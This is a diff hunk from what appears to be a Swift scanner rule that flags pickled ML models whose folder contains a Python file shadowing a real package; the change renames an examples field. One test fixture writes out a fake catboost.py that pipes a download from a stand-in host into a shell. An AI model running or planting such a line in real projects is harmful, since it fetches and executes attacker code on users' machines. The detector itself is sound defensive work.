@@ -46,7 +46,7 @@ struct PickleLocalModuleRule: ModelIssueRule {
             """,
             defaultSeverity: .high, defaultConfidence: .medium,
             remediation: "Remove the shadowing file from the model folder, or load from elsewhere with the folder off sys.path.",
-            examples: [
+            lazyExamples: [
                 Example(.triggers, path: "models/model.pkl", bytes: Self.catboostClass)
                     .beside(["catboost.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"]),
                 Example(.triggers, path: "models/model.pkl", bytes: Self.catboostClass)
